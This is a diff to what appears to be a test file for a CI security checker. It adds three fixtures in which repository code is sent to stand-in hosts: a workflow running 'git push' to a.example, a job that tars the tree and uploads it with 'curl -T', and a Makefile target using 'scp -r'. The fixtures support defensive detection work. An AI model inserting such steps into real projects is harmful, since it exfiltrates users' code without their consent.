@@ -61,6 +61,25 @@ STEERED = (
     ),
 )
 MOVES = "      - uses: actions/upload-artifact@" + "0" * 40
+SENT = (
+    (
+        "by a workflow of its own",
+        write(OTHER, f"on: push\njobs:\n  a:\n{OWN}      - run: git push https://a.example/b\n"),
+        "git push https://a.example/b",
+    ),
+    (
+        "by a job",
+        extend(
+            CI, f"  a:\n{OWN}      - run: |\n          tar c . > a\n          curl -T a b.example\n"
+        ),
+        "curl -T",
+    ),
+    (
+        "by a make target",
+        extend("Makefile", "\n.PHONY: mirror\nmirror:\n\t@scp -r . a.example:\n"),
+        "scp -r",
+    ),
+)
 
 ATTACKS = joined(
     *(told(what, plant, by, says=says) for what, plant, by, says in STEERED),
@@ -69,6 +88,10 @@ ATTACKS = joined(
         write(OTHER, f"on: pull_request\njobs:\n  a:\n    name: ci / every check\n{OWN}"),
         "step-added",
         says='another job is called "ci / every check" as well',
+    ),
+    *(
+        told(f"a stranger's host that gets the code, {how}", plant, "sends-away", says=says)
+        for how, plant, says in SENT
     ),
     told(
         "a workflow that cancels the checks of main",
